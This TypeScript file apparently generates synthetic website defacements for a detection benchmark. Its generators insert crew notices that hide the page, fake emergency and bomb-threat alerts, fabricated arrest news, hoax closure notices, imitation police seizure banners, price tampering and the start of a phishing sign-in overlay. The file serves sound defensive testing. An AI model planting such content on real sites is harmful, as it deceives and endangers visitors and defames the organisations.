/**
 * Fresh31 defacement classes: written during round 24, by someone who does
 * not read the engines, from the point of view of a CERT analyst triaging
 * reports from many kinds of sites (a municipal or government page, a
 * university department, a local news outlet, a small online shop, a
 * charity, a restaurant, a personal blog). They are spread evenly over three
 * questions. What a visitor sees: a crew's notice with the rest of the page
 * hidden, a marquee slogan, the tab title alone, the main heading alone, a
 * fabricated news item, a fake emergency alert, a hoax closure notice,
 * absurd prices, the pictures swapped for one image, an imitation seizure
 * banner, a whole classic defacer's index page. Where the page sends
 * visitors and their data: a sign-in overlay, a card form, a phone-only
 * redirect, a search-referrer redirect, a fake browser update, hidden spam
 * links, an invisible iframe, a browser miner, a form posting to a mail
 * script on a compromised third-party site, a "pay online" button to a
 * look-alike, outbound links through a redirector. Identifiers visitors copy
 * or trust: the phone in every form, the e-mail on another top-level domain,
 * the bank account moved abroad, the wallet moved to another coin, the
 * payment handle moved to a private person, the follow-us links moved to
 * the crew's accounts, a floating WhatsApp button, a "scan to pay" QR code,
 * another company named as payee with its registration numbers, a premium-
 * rate number, a free-mail mailbox. Each varies wording, language,
 * placement, sizes and hosts with the rng. The writer had no internet
 * access: the patterns are recalled from memory of public descriptions
 * (Zone-H style defacement archives, CERT and police advisories, Sucuri,
 * Sansec and Malwarebytes write-ups of redirects, skimmers, SocGholish and
 * SEO spam, OWASP's pages on phishing and clickjacking, fraud-centre
 * warnings on payment diversion) and may differ in detail. Scored in the
 * `fresh31` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, forms, head, lineAfter, occurrences, replaceEverywhere, resolve, say, setAttr, shown, siteOr, top } from "./classes.js"
import { type Page, makeBank, makeWallet, priceRe, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, locales, swapPhone } from "./locales.js"
import { type El, type Range, attrSpans, insideRaw, overlapsRaw } from "./locate.js"
import { type Rng, alnum, base58, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { boast, brandLookalike, contactLine, greetz, libLookalike, nick, notifyLine, political, randomDomain, signature, slug, team } from "./words.js"

const fresh31 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh31", make })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
/** Shown links with a real address. */
const links = (page: Page): Array<El> =>
  shown(page, "a", (e) => usable(page, e) && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:|mailto:|tel:|data:)/i.test(e.attribs.href ?? ""))
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOcc = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => inText(page, r))
/** A new line after the contact line holding one of `needles`, else a paragraph at `fallback`. */
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<p>${html}</p>`)
}
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
/** Any host an intruder runs. */
const evilHost = (rng: Rng, page: Page): string => pick(rng, [() => randomDomain(rng), () => brandLookalike(rng, page.site.brand), () => libLookalike(rng)])()
const lookHost = (rng: Rng, page: Page): string => {
  const d = brandLookalike(rng, page.site.brand)
  return chance(rng, 0.4) ? `www.${d}` : d
}
const pixelRe = /(pixel|beacon|spacer|blank|1x1|clear\.gif|\/o\.gif|\/b\/ss\/|\btrack)/i
/** Shown pictures with an address, tracking pixels left out (unless the page shows nothing else). */
const imgs = (page: Page): Array<El> => {
  const all = shown(page, "img", (e) => usable(page, e) && (e.attribs.src ?? "").trim() !== "" && !/^\s*data:/i.test(e.attribs.src ?? ""))
  const real = all.filter((e) => !pixelRe.test(e.attribs.src ?? "") && e.attribs.width !== "1" && e.attribs.height !== "1")
  return real.length > 0 ? real : all
}
/** A block position: top of the body, near the top, in the middle or anywhere. */
const blockSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)])
const who = (rng: Rng) => (chance(rng, 0.5) ? nick(rng) : team(rng))
const ytId = (rng: Rng) => Array.from({ length: 11 }, () => pick(rng, [..."ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"])).join("")
const firstNames = ["maria", "john", "ahmed", "lucas", "sofia", "daniel", "anna", "mehmet", "kevin", "laura", "ivan", "nina", "pedro", "jessica", "omar", "emma", "david", "sara", "mark", "julia"]
const lastNames = ["smith", "silva", "kowalski", "garcia", "muller", "rossi", "jansen", "dubois", "novak", "yilmaz", "okafor", "nguyen", "brown", "costa", "martin", "petrov", "santos", "bauer"]
const person = (rng: Rng, capital: boolean): string => {
  const c = (s: string) => (capital ? s.charAt(0).toUpperCase() + s.slice(1) : s)
  return `${c(pick(rng, firstNames))}${pick(rng, ["", capital ? "" : ".", capital ? "" : "_"])}${c(pick(rng, lastNames))}${chance(rng, 0.6) ? digits(rng, between(rng, 2, 4)) : ""}`
}
const freemail = (rng: Rng, page: Page): string => {
  const local = page.ids.email.split("@")[0] ?? "info"
  const b = bare(page)
  const name = pick(rng, [b, `${b}.${local}`, `${local}.${b}`, `${b}${pick(rng, ["office", "support", "team", "official", "help"])}`, `${b}${digits(rng, 2)}`, `${b}-${local}`])
  return `${name}@${pick(rng, ["gmail.com", "outlook.com", "hotmail.com", "proton.me", "protonmail.com", "gmx.com", "yahoo.com", "mail.com", "aol.com", "icloud.com", "yandex.com", "zoho.com"])}`
}
/** Whether `r` touches raw text or a comment, or holds one whole (a replacement there would delete it). */
const rawInside = (page: Page, r: Range): boolean => page.spots.raw.some((x) => (x.start < r.end && x.end > r.start) || (x.start >= r.start && x.end <= r.end))
/** The whole content of the document's title element in the head (the bench's title range stops at the first character reference). */
const titleRange = (page: Page): Range | null => {
  const el = page.spots.elements.find((e) => e.name === "title" && !e.inBody && e.closeTag !== null && usable(page, e))
  if (el === undefined || el.closeTag === null) return null
  const r = { start: el.openEnd, end: el.closeTag.start }
  return rawInside(page, r) ? null : r
}
/** Pairs of (from, to) that actually change something. */
const changing = (pairs: ReadonlyArray<readonly [string, string]>): Array<readonly [string, string]> => pairs.filter(([a, b]) => a !== "" && a !== b)

// ———————————————————————————— what a visitor sees ————————————————————————————

// Classic defacements as archived on Zone-H and its successors: the intruder's notice (signature, message, greetz, contacts) put first in the body with background music, everything else hidden by one style rule so the page shows only the notice.
const crewNotice = fresh31("defacer's notice put first in the body (signature, message, greetz, contacts) with background music from another host, the rest of the page hidden by one injected style rule", (page, rng) => {
  const w = who(rng)
  const id = `${pick(rng, ["h", "x", "dfc", "own", "hx", "z"])}${alnum(rng, 5)}`
  const bg = pick(rng, ["#000", "#000", "#111", "#0a0a0a", "#1b0000", "#001b00"])
  const fg = pick(rng, ["#0f0", "#fff", "#f00", "#ff0", "#0ff"])
  const font = pick(rng, ["monospace", "'Courier New',monospace", "Verdana,sans-serif", "'Comic Sans MS',cursive", "Impact,sans-serif"])
  const msg = chance(rng, 0.5) ? political(rng).text : boast(rng).text
  const music = pick(rng, [
    () => `<audio src="https://${randomDomain(rng)}/${pick(rng, ["music", "song", "audio", "mp3", "sound"])}/${alnum(rng, 8)}.mp3" autoplay loop></audio>`,
    () => `<iframe width="1" height="1" src="https://www.youtube.com/embed/${ytId(rng)}?autoplay=1&amp;loop=1" frameborder="0" allow="autoplay"></iframe>`,
    () => `<embed src="https://${randomDomain(rng)}/${alnum(rng, 6)}.mp3" autostart="true" loop="true" width="0" height="0">`,
    () => ""
  ])()
  const pic = chance(rng, 0.6) ? `<img src="https://${randomDomain(rng)}/${pick(rng, ["img", "i", "up"])}/${alnum(rng, 7)}.${pick(rng, ["png", "gif", "jpg"])}" alt="" width="${between(rng, 180, 420)}">` : ""
  const lines = [
    `<h1>${esc(signature(rng, w).text)}</h1>`,
    pic,
    `<p>${esc(msg)}</p>`,
    chance(rng, 0.7) ? `<p>${esc(greetz(rng))}</p>` : "",
    chance(rng, 0.6) ? `<p>${contactLine(rng, w)}</p>` : "",
    chance(rng, 0.3) ? `<p><small>${esc(notifyLine(rng, w))}</small></p>` : "",
    music
  ].join("")
  const block = `<div id="${id}" style="background:${bg};color:${fg};text-align:center;padding:${between(rng, 20, 80)}px 10px;font-family:${font}">${lines}</div>`
  const rule = pick(rng, [`body>*:not(#${id}){display:none!important}`, `body>*:not(#${id}){visibility:hidden!important;height:0;overflow:hidden}`])
  return splices(insert(pick(rng, [head(page), head(page), headStart(page)]), `<style>${rule}body{background:${bg}!important}</style>`), insert(top(page), block))
})

// Old-school hacktivist defacements often left the site in place and ran the slogan across it in a <marquee>: one scrolling strip at the top or bottom.
const marqueeSlogan = fresh31("scrolling marquee strip across the page carrying a hacktivist slogan and the crew's name, the page otherwise intact", (page, rng) => {
  const w = who(rng)
  const text = pick(rng, [
    () => `${political(rng).text} — ${w}`,
    () => `${signature(rng, w).text} ${pick(rng, ["|", "::", "~", "—"])} ${boast(rng).text}`,
    () => `${signature(rng, w).text} ${pick(rng, ["|", "::", "~"])} ${greetz(rng)}`
  ])()
  const style = `background:${pick(rng, ["#000", "#c00", "#111", "#ff0", "#060"])};color:${pick(rng, ["#0f0", "#fff", "#ff0", "#000"])};font-size:${between(rng, 14, 36)}px;font-weight:bold;padding:${between(rng, 2, 12)}px 0`
  const m = `<marquee behavior="${pick(rng, ["scroll", "scroll", "alternate"])}" direction="${pick(rng, ["left", "left", "right"])}" scrollamount="${between(rng, 3, 14)}" style="${style}">${esc(text)}</marquee>`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top"), bottom(page)]), m))
})

// Defacers who only get at a CMS's SEO settings or the template's head change only the title, which shows in the browser tab and search results: the document title alone replaced by a signature.
const titleOnly = fresh31("only the document title (the browser tab and search-result title) replaced by a 'hacked by' signature, nothing in the body changed", (page, rng) => {
  const w = who(rng)
  const sig = signature(rng, w).text
  const text = pick(rng, [sig, `${sig} | ${team(rng)}`, `:: ${sig} ::`, `${sig} ${pick(rng, ["~", "-", "|"])} ${boast(rng).text}`, `${sig}${pick(rng, [" !!!", " :)", ""])}`])
  const t = titleRange(page)
  if (t !== null) return splices(replace(t, esc(text)))
  return splices(insert(head(page), `<title>${esc(text)}</title>`))
})

const insults: T<ReadonlyArray<string>> = {
  en: ["{B} lies to the people", "Shame on {B}", "{B}: thieves and liars", "Corrupt to the core — {B}", "{B} sold your data", "Wake up, {B}"],
  fr: ["{B} ment aux citoyens", "Honte à {B}", "{B} : voleurs et menteurs", "{B}, corrompus jusqu'à l'os", "{B} a vendu vos données"],
  de: ["{B} belügt die Bürger", "Schande über {B}", "{B}: Diebe und Lügner", "{B} – korrupt bis ins Mark", "{B} hat eure Daten verkauft"],
  es: ["{B} miente al pueblo", "Vergüenza para {B}", "{B}: ladrones y mentirosos", "{B}, corruptos hasta la médula", "{B} vendió tus datos"],
  nl: ["{B} liegt tegen de burgers", "Schande over {B}", "{B}: dieven en leugenaars", "{B} is door en door corrupt", "{B} heeft jullie gegevens verkocht"],
  pt: ["{B} mente para o povo", "Vergonha, {B}", "{B}: ladrões e mentirosos", "{B}, corruptos até o osso", "{B} vendeu seus dados"],
  it: ["{B} mente ai cittadini", "Vergogna, {B}", "{B}: ladri e bugiardi", "{B}, corrotti fino al midollo", "{B} ha venduto i vostri dati"]
}

// Targeted hacktivist and disgruntled-insider defacements of councils, universities and companies often change one conspicuous element, the main heading, to an accusation: the first h1 (else h2) rewritten.
const headingInsult = fresh31("the page's main heading (its first h1, else h2 or h3) rewritten as an accusation or insult against the organisation, the rest left as it was", (page, rng) => {
  const text = fill(pick(rng, siteOr(rng, page, insults)), { B: brandName(page) })
  const cands = ["h1", "h2", "h3"].map((n) => shown(page, n, (e) => usable(page, e) && e.closeTag !== null && !rawInside(page, { start: e.openEnd, end: e.closeTag.start }) && page.spots.texts.some((t) => t.start >= e.openEnd && t.end <= e.closeTag!.start)))
  const pool = cands.find((c) => c.length > 0)
  if (pool !== undefined) {
    const h = chance(rng, 0.8) ? pool[0]! : pick(rng, pool)
    return splices(replace({ start: h.openEnd, end: h.closeTag!.start }, esc(text)))
  }
  return splices(insert(top(page), `<h1>${esc(text)}</h1>`))
})

const fakeNews: T<ReadonlyArray<string>> = {
  en: ["{B} director arrested in fraud investigation", "{B} to close all sites next week, staff told", "Tap water unsafe: officials hid test results for months", "{B} confirms data of all members was leaked", "Mayor resigns after bribery recording surfaces", "All exams cancelled after papers leaked online"],
  fr: ["Le directeur de {B} arrêté dans une enquête pour fraude", "{B} fermera tous ses sites la semaine prochaine", "Eau du robinet non potable : les résultats cachés pendant des mois", "{B} confirme la fuite des données de tous ses membres", "Le maire démissionne après la diffusion d'un enregistrement compromettant"],
  de: ["{B}-Chef im Betrugsverfahren festgenommen", "{B} schließt nächste Woche alle Standorte", "Leitungswasser belastet: Behörden verschwiegen Messwerte monatelang", "{B} bestätigt: Daten aller Mitglieder gestohlen", "Bürgermeister tritt nach Bestechungsaufnahme zurück"],
  es: ["Detenido el director de {B} por fraude", "{B} cerrará todas sus sedes la próxima semana", "Agua del grifo no potable: ocultaron los análisis durante meses", "{B} confirma la filtración de los datos de todos sus socios", "Dimite el alcalde tras difundirse una grabación de sobornos"],
  nl: ["Directeur {B} aangehouden in fraudeonderzoek", "{B} sluit volgende week alle locaties", "Kraanwater onveilig: gemeente hield meetresultaten maandenlang geheim", "{B} bevestigt datalek met gegevens van alle leden", "Burgemeester treedt af na opname over omkoping"],
  pt: ["Diretor de {B} é preso em investigação de fraude", "{B} vai fechar todas as unidades na próxima semana", "Água da torneira imprópria: prefeitura escondeu laudos por meses", "{B} confirma vazamento de dados de todos os associados", "Prefeito renuncia após vazamento de gravação de propina"],
  it: ["Arrestato il direttore di {B} per frode", "{B} chiuderà tutte le sedi la prossima settimana", "Acqua non potabile: i risultati nascosti per mesi", "{B} conferma la fuga dei dati di tutti i soci", "Il sindaco si dimette dopo la registrazione sulle tangenti"]
}
const breaking: T<string> = { en: "BREAKING", fr: "URGENT", de: "EILMELDUNG", es: "ÚLTIMA HORA", nl: "BREAKING", pt: "URGENTE", it: "ULTIM'ORA" }

// Disinformation through hacked news and public-body sites (fake statements planted on news agencies' and ministries' sites, fabricated "surrender" or "resignation" stories on regional news sites): a fabricated item naming the organisation, first in its latest-posts list or as a lead line, linked to a path on the site itself.
const fabricatedNews = fresh31("fabricated breaking-news item (arrest, resignation, closure, leak or scandal naming the organisation) placed first in its latest-posts list or as a lead line, linked to a page of the site", (page, rng) => {
  const headline = fill(pick(rng, say(page, fakeNews)), { B: brandName(page) })
  const section: T<ReadonlyArray<string>> = { en: ["news", "blog", "press"], fr: ["actualites", "blog"], de: ["aktuelles", "nachrichten"], es: ["noticias", "actualidad"], nl: ["nieuws", "actueel"], pt: ["noticias", "blog"], it: ["notizie", "news"] }
  const href = `/${pick(rng, say(page, section))}/${slug(headline).slice(0, 60)}${chance(rng, 0.5) ? `-${between(rng, 1000, 99999)}` : ""}`
  const aside = page.spots.elements.find((e) => e.name === "aside" && (e.attribs.class ?? "").includes("latest-posts") && e.shown && usable(page, e))
  const ul = aside === undefined ? undefined : page.spots.elements.find((e) => e.name === "ul" && e.parent === aside.index)
  const out: Array<Splice> = []
  if (ul !== undefined && chance(rng, 0.75)) out.push(insert(ul.openEnd, `<li><a href="${esc(href)}">${chance(rng, 0.5) ? `<strong>${esc(say(page, breaking))}:</strong> ` : ""}${esc(headline)}</a></li>`))
  if (out.length === 0 || chance(rng, 0.3)) out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), `<p class="${pick(rng, ["breaking", "lead", "headline", "news-flash"])}"><strong>${esc(say(page, breaking))}:</strong> <a href="${esc(href)}">${esc(headline)}</a></p>`))
  return { splices: out }
})

const alerts: T<ReadonlyArray<string>> = {
  en: ["Boil-water order for all districts until further notice. Do not drink tap water.", "Evacuation order: residents within 5 km must leave immediately. Follow police instructions.", "Gas leak reported in the town centre. Stay indoors and close all windows.", "All schools closed today after a bomb threat. Do not bring children to school.", "Nuclear incident at the nearby plant: take iodine tablets now."],
  fr: ["Ordre de faire bouillir l'eau dans tous les quartiers jusqu'à nouvel ordre. Ne buvez pas l'eau du robinet.", "Ordre d'évacuation : les habitants dans un rayon de 5 km doivent partir immédiatement.", "Fuite de gaz signalée en centre-ville. Restez chez vous, fenêtres fermées.", "Toutes les écoles sont fermées aujourd'hui après une alerte à la bombe."],
  de: ["Abkochgebot für alle Stadtteile bis auf Weiteres. Kein Leitungswasser trinken!", "Evakuierung: Anwohner im Umkreis von 5 km müssen sofort ihre Häuser verlassen.", "Gasaustritt in der Innenstadt. Bleiben Sie in Gebäuden und schließen Sie die Fenster.", "Alle Schulen heute wegen Bombendrohung geschlossen."],
  es: ["Orden de hervir el agua en todos los barrios hasta nuevo aviso. No beba agua del grifo.", "Orden de evacuación: los vecinos en un radio de 5 km deben salir de inmediato.", "Fuga de gas en el centro. Permanezcan en sus casas con las ventanas cerradas.", "Todos los colegios cerrados hoy por amenaza de bomba."],
  nl: ["Kookadvies voor alle wijken tot nader bericht. Drink geen kraanwater.", "Evacuatiebevel: bewoners binnen 5 km moeten onmiddellijk vertrekken.", "Gaslek in het centrum. Blijf binnen en sluit ramen en deuren.", "Alle scholen vandaag gesloten na een bommelding."],
  pt: ["Ordem de ferver a água em todos os bairros até novo aviso. Não beba água da torneira.", "Ordem de evacuação: moradores num raio de 5 km devem sair imediatamente.", "Vazamento de gás no centro. Fiquem em casa com as janelas fechadas.", "Todas as escolas fechadas hoje após ameaça de bomba."],
  it: ["Ordinanza di bollitura dell'acqua in tutti i quartieri fino a nuovo avviso. Non bere l'acqua del rubinetto.", "Ordine di evacuazione: i residenti entro 5 km devono lasciare subito le abitazioni.", "Fuga di gas in centro. Restate in casa con le finestre chiuse.", "Tutte le scuole chiuse oggi per un allarme bomba."]
}
const alertLabel: T<ReadonlyArray<string>> = {
  en: ["EMERGENCY ALERT", "URGENT PUBLIC WARNING", "OFFICIAL ALERT"], fr: ["ALERTE URGENTE", "AVIS OFFICIEL", "ALERTE"], de: ["WARNMELDUNG", "AMTLICHE WARNUNG", "DRINGEND"],
  es: ["ALERTA DE EMERGENCIA", "AVISO OFICIAL", "URGENTE"], nl: ["NOODMELDING", "NL-ALERT", "OFFICIËLE WAARSCHUWING"], pt: ["ALERTA DE EMERGÊNCIA", "AVISO OFICIAL", "URGENTE"], it: ["ALLERTA", "AVVISO UFFICIALE", "URGENTE"]
}

// Hoax alerts on hacked public sites and alerting systems (the 2013 "zombie" Emergency Alert System hack, fake evacuation and contamination notices planted on municipal and school sites): an official-looking red alert banner in the site's language with an instruction to the public.
const fakeEmergencyAlert = fresh31("fake emergency alert banner in the site's language (boil-water, evacuation, gas leak, bomb threat) presented as an official instruction to the public", (page, rng) => {
  const msg = pick(rng, say(page, alerts))
  const label = pick(rng, say(page, alertLabel))
  const style = `background:${pick(rng, ["#c00", "#b00020", "#d32f2f", "#e65100"])};color:#fff;padding:${between(rng, 8, 24)}px;font-size:${between(rng, 16, 24)}px;font-weight:bold;text-align:center`
  const html = pick(rng, [
    () => `<div role="alert" class="${pick(rng, ["emergency-alert", "alert alert-danger", "site-alert", "warning-banner"])}" style="${style}"><strong>${esc(label)}:</strong> ${esc(msg)}</div>`,
    () => `<section class="alert" style="${style}"><h2>${esc(label)}</h2><p>${esc(msg)}</p></section>`
  ])()
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), html))
})

const closures: T<ReadonlyArray<string>> = {
  en: ["After {n} years, {B} has closed for good. All orders, bookings and memberships are cancelled and will not be refunded.", "{B} has entered insolvency. Do not make any further payments; all appointments are cancelled.", "This office is permanently closed. Services will no longer be provided and pending applications have been discarded."],
  fr: ["Après {n} ans, {B} ferme définitivement. Toutes les commandes, réservations et adhésions sont annulées sans remboursement.", "{B} est en liquidation. N'effectuez plus aucun paiement ; tous les rendez-vous sont annulés."],
  de: ["Nach {n} Jahren schließt {B} endgültig. Alle Bestellungen, Buchungen und Mitgliedschaften sind storniert und werden nicht erstattet.", "{B} ist insolvent. Bitte leisten Sie keine Zahlungen mehr; alle Termine sind abgesagt."],
  es: ["Después de {n} años, {B} cierra definitivamente. Todos los pedidos, reservas y cuotas quedan cancelados sin reembolso.", "{B} ha entrado en concurso de acreedores. No realice más pagos; todas las citas quedan anuladas."],
  nl: ["Na {n} jaar sluit {B} definitief. Alle bestellingen, reserveringen en lidmaatschappen zijn geannuleerd en worden niet terugbetaald.", "{B} is failliet verklaard. Doe geen betalingen meer; alle afspraken vervallen."],
  pt: ["Depois de {n} anos, {B} fechou definitivamente. Todos os pedidos, reservas e mensalidades foram cancelados sem reembolso.", "{B} entrou em falência. Não faça mais pagamentos; todos os agendamentos foram cancelados."],
  it: ["Dopo {n} anni {B} chiude definitivamente. Tutti gli ordini, le prenotazioni e le iscrizioni sono annullati senza rimborso.", "{B} è in liquidazione. Non effettuate altri pagamenti; tutti gli appuntamenti sono annullati."]
}

// Sabotage and hoax defacements of small businesses, restaurants and associations (a fake "we have closed for good" or "insolvency" notice, sometimes by a competitor or a former employee): a notice in the organisation's own voice that it has closed and everything is cancelled.
const hoaxClosure = fresh31("hoax notice in the organisation's own voice that it has closed for good or gone insolvent and that all orders, bookings and memberships are cancelled", (page, rng) => {
  const text = fill(pick(rng, say(page, closures)), { B: brandName(page), n: String(between(rng, 5, 60)) })
  const html = chance(rng, 0.5) ? `<p class="${pick(rng, ["notice", "announcement", "important"])}"><strong>${esc(text)}</strong></p>` : `<div class="${pick(rng, ["notice", "announcement", "callout"])}"><p>${esc(text)}</p></div>`
  return splices(insert(blockSpot(rng, page), html))
})

/** A price's number replaced by a tiny amount, keeping its currency and decimal style. */
const absurd = (rng: Rng, price: string): string => {
  const num = /\d(?:[\d.,\u00a0\u202f]*\d)?/.exec(price)
  if (num === null) return price
  const old = num[0]
  const comma = /,\d{2}$/.test(old)
  const dec = /[.,]\d{2}$/.test(old)
  const opts = dec ? ["0.01", "0.99", "1.00", "0.10", "0.50", "1.99"] : ["1", "0", "2", "5"]
  for (const o of [pick(rng, opts), ...opts]) {
    const v = comma ? o.replace(".", ",") : o
    if (v !== old) return price.slice(0, num.index) + v + price.slice(num.index + old.length)
  }
  return price
}

// Price tampering on hacked shops (prices set to a cent or one unit so that a crowd of orders goes through, or so that the shop is ridiculed), recalled from incident reports on WooCommerce and Magento shops: one or all of the shown prices changed to an absurd amount in place.
const absurdPrices = fresh31("shown prices (one, or all of them) changed in place to absurdly low amounts (a cent, one unit, ninety-nine cents) while the rest of the page is untouched", (page, rng) => {
  const re = new RegExp(priceRe.source, "g")
  const runs = page.spots.texts.filter((t) => !overlapsRaw(page.spots, t) && new RegExp(priceRe.source).test(page.html.slice(t.start, t.end)))
  const chosen = chance(rng, 0.5) ? sample(rng, runs, 1) : runs.slice(0, 40)
  const out: Array<Splice> = []
  for (const t of chosen) {
    const raw = page.html.slice(t.start, t.end)
    for (const m of raw.matchAll(re)) {
      const next = absurd(rng, m[0])
      if (next !== m[0]) out.push(replace({ start: t.start + m.index!, end: t.start + m.index! + m[0].length }, next))
      if (chosen.length === 1) break
    }
  }
  if (out.length > 0) return { splices: out }
  return splices(insert(slotAt(page.spots, "top"), `<p class="price"><strong>${esc(page.site.words.featured)}: ${esc(page.site.locale.money(pick(rng, [0.01, 0.99, 1])))}</strong></p>`))
})

// Image defacements (a crew's emblem, a flag or a shock picture hot-linked in place of every photo, as seen on defaced news and municipal sites): most of the page's pictures replaced by one and the same image from another host, srcset and lazy-load copies following.
const picturesSwapped = fresh31("most of the page's pictures replaced by one and the same image from another host (a crew's emblem, a flag or a shock picture), srcset and lazy-load copies following, alt texts kept", (page, rng) => {
  const url = `https://${pick(rng, [randomDomain(rng), `i.${randomDomain(rng)}`, "i.imgur.com", "i.ibb.co"])}/${alnum(rng, between(rng, 6, 9))}.${pick(rng, ["png", "jpg", "gif", "webp"])}`
  const all = imgs(page)
  if (all.length === 0) return splices(insert(top(page), `<p><img src="${url}" alt="" style="width:100%"></p>`))
  const chosen = sample(rng, all, Math.max(1, Math.round(all.length * (0.6 + 0.4 * rng()))))
  const out: Array<Splice> = []
  for (const el of chosen) {
    out.push(setAttr(page, el, "src", url))
    for (const a of attrSpans(page.html, el)) {
      if (a.value === null) continue
      if (a.name === "srcset" || /^data-(src|lazy-src|original|srcset|large-src)$/.test(a.name)) out.push(replace(a.value, esc(url)))
    }
  }
  return { splices: out }
})

const agencies: Readonly<Record<string, ReadonlyArray<string>>> = {
  us: ["Federal Bureau of Investigation", "Homeland Security Investigations"], uk: ["National Crime Agency", "Metropolitan Police Cyber Crime Unit"],
  fr: ["Gendarmerie nationale – C3N", "Police nationale – OFAC"], de: ["Bundeskriminalamt", "Landeskriminalamt"], es: ["Guardia Civil", "Policía Nacional"],
  nl: ["Politie – Team High Tech Crime", "FIOD"], au: ["Australian Federal Police"], in: ["Central Bureau of Investigation"], br: ["Polícia Federal"], it: ["Polizia Postale e delle Comunicazioni"]
}
const seized: T<string> = {
  en: "This domain has been seized", fr: "Ce domaine a été saisi", de: "Diese Domain wurde beschlagnahmt", es: "Este dominio ha sido incautado",
  nl: "Dit domein is in beslag genomen", pt: "Este domínio foi apreendido", it: "Questo dominio è stato sequestrato"
}

// Imitation seizure banners (pranksters and crews copying the FBI/Europol "this domain has been seized" splash, seals hot-linked from elsewhere), reported on defaced small sites: a seizure banner over the top of the page.
const fakeSeizure = fresh31("imitation law-enforcement 'this domain has been seized' banner (national police or Europol seals loaded from another host) laid over the top of the page", (page, rng) => {
  const agency = chance(rng, 0.6) ? pick(rng, agencies[page.site.locale.country] ?? ["Europol"]) : pick(rng, ["Europol", "Federal Bureau of Investigation", "Interpol"])
  const host = randomDomain(rng)
  const seals = Array.from({ length: between(rng, 1, 3) }, () => `<img src="https://${host}/${pick(rng, ["seal", "logo", "badge"])}${between(rng, 1, 9)}.png" alt="" height="${between(rng, 60, 120)}">`).join(" ")
  const title = siteOr(rng, page, seized)
  const body = `${esc(title)}${chance(rng, 0.5) ? "" : ` — ${esc(seized.en)}`}`
  const detail = `${pick(rng, ["as part of a coordinated law enforcement action", "pursuant to a seizure warrant issued by a court", "in an investigation into fraud and money laundering"])} — ${esc(agency)}`
  const style = `position:${pick(rng, ["fixed", "relative", "absolute"])};top:0;left:0;right:0;z-index:${pick(rng, ["99999", "2147483647", "10000"])};background:${pick(rng, ["#fff", "#0b1f3a", "#eee"])};color:${pick(rng, ["#000", "#c00"])};text-align:center;padding:${between(rng, 20, 60)}px`
  return splices(insert(top(page), `<div class="${pick(rng, ["seized", "seizure-banner", "notice"])}" style="${style}">${seals}<h1>${body}</h1><p>${detail}</p></div>`))
})

// The commonest archived defacement of all: the site's index file overwritten by the intruder's own page (black background, big signature, message, greetz, contacts, a mirror notice, sometimes music).
const defacerIndex: ChangeClass = {
  name: "whole document replaced by a classic defacer's index page (dark background, signature heading, message, greetz, contacts, mirror notice, sometimes music)",
  kind: "defacement",
  group: "fresh31",
  wholePage: true,
  make: (page, rng) => {
    const w = who(rng)
    const sig = signature(rng, w).text
    const msg = chance(rng, 0.5) ? political(rng) : boast(rng)
    const bg = pick(rng, ["#000", "#000", "#111", "#0d0d0d", "#1a0000"])
    const fg = pick(rng, ["#0f0", "#fff", "#f00", "#ff0"])
    const parts = [
      `<h1>${esc(sig)}</h1>`,
      chance(rng, 0.5) ? `<img src="https://${randomDomain(rng)}/${alnum(rng, 6)}.${pick(rng, ["gif", "png", "jpg"])}" alt="" width="${between(rng, 200, 500)}">` : "",
      `<p>${esc(msg.text)}</p>`,
      chance(rng, 0.6) ? `<p>${esc(boast(rng).text)}</p>` : "",
      chance(rng, 0.7) ? `<p>${esc(greetz(rng))}</p>` : "",
      chance(rng, 0.6) ? `<p>${contactLine(rng, w)}</p>` : "",
      chance(rng, 0.5) ? `<p><small>${esc(notifyLine(rng, w))}</small></p>` : "",
      chance(rng, 0.4) ? `<audio src="https://${randomDomain(rng)}/${alnum(rng, 8)}.mp3" autoplay loop></audio>` : ""
    ].join("\n")
    const title = pick(rng, [sig, `${sig} | ${w}`, w, `${page.site.host} ${pick(rng, ["hacked", "owned", "defaced"])}`, `${w} was here`])
    return { html: `<!DOCTYPE html>\n<html${chance(rng, 0.5) ? ` lang="${msg.lang}"` : ""}><head><meta charset="utf-8"><title>${esc(title)}</title></head><body style="background:${bg};color:${fg};text-align:center;font-family:${pick(rng, ["monospace", "'Courier New'", "Verdana", "Tahoma"])}">\n${parts}\n</body></html>\n` }
  }
}

// ———————————————————————————— where the page sends visitors and data ————————————————————————————

const signIn: T<ReadonlyArray<readonly [string, string, string, string, string]>> = {
  en: [["Your session has expired", "Please sign in again with your {B} account to continue.", "E-mail or username", "Password", "Sign in"], ["Verify your account", "To keep access to {B} services, confirm your staff or student login.", "Username", "Password", "Verify"]],
